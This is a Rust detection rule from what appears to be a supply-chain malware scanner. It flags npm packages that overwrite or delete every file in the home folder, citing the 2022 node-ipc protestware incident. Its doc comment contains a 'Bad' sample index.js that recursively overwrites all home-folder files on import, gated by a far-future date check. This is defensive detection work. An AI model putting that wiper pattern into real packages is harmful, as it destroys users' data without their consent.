//! # All files of the home folder are overwritten or deleted
//!
//! The names in the home folder, a drive or the root are listed, and the files of those names are written over or
//! deleted by code that nobody asked to run.
//!
//! ## Why it matters
//!
//! The files are gone. node-ipc did so in 2022 to machines in two countries.
//!
//! ## Known benign uses
//!
//! None at install or import.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os"), path = require("path");
//! if (Date.now() > Date.UTC(9999, 1, 1)) {
//!   for (const name of fs.readdirSync(os.homedir(), { recursive: true })) {
//!     fs.writeFileSync(path.join(os.homedir(), name), "x"); //~ here
//!   }
//! }
//! exports.x = 1;
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os"), path = require("path");
//! exports.list = () => fs.readdirSync(os.homedir());
//! exports.save = (name, text) => fs.writeFileSync(path.join(os.homedir(), ".x", name), text);
//! ```
//!
//! ## References
//!
//! - Snyk: node-ipc and peacenotwar (March 2022)

use stockade_facts::api::{self, Effect};
use stockade_facts::vocabulary::HOLE;

use crate::prelude::*;

/// All files of the home folder are overwritten or deleted.
pub struct FilesOverwrittenWidely;

impl Rule for FilesOverwrittenWidely {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "files-overwritten-widely",
            title: "All files of the home folder are overwritten or deleted",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1485",
            covers: &["impact-wiper", "protestware", "evade-locale-gate"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let lists_wide = facts.all_calls().iter().any(|call| {
            let listed = match api::find(&call.api).map(|api| api.effect) {
                Some(Effect::ListFolder(at)) => call.arguments.get(usize::from(at)),
                _ => None,
            };
            let is_wide = |text: &str| classify(text) == FileClass::WideFolder;
            call.trigger.runs_unasked()
                && listed.is_some_and(|argument| argument.texts.iter().any(|text| is_wide(text)))
        });
        if !lists_wide {
            return;
        }
        for change in facts.file_changes().filter(|change| change.trigger().runs_unasked()) {
            if change.kind != ChangeKind::Replaced && is_any_file(change.path) {
                found.call(change.call, "writes over or deletes every file there");
            }
        }
    }
}

/// `~/…`, `/…` or `c:/…`, with nothing known of the name.
fn is_any_file(path: &str) -> bool {
    let path = path.replace('\\', "/");
    let is_rooted = path.starts_with(['~', '/']) || path.get(1..3) == Some(":/");
    let name = path.trim_start_matches('~').split_once('/').map_or("", |(_, rest)| rest);
    is_rooted && name.contains(HOLE) && name.chars().all(|character| character == HOLE || character == '/')
}
